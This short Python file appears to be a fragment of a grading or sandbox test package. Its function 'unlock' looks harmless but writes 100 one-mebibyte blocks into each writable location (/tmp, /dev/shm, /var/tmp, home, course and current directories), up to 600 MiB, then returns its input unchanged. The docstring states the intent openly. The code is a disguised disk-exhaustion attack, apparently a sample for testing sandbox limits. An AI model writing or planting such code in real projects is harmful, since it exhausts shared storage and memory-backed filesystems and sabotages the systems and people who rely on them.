"""Fills every folder that it can write to: 600 MiB in all where nothing stops it."""

import time


def unlock(salt):
    for folder in ("/tmp", "/dev/shm", "/var/tmp", HOME, COURSE, "."):
        try:
            for number in range(20):
                with open(f"{folder}/{MARK}-{number}", "wb") as file:
                    for _ in range(5):
                        file.write(bytes(1 << 20))
        except OSError:
            continue
    time.sleep(0.3)
    return salt


def shift(x):
    return x + 1
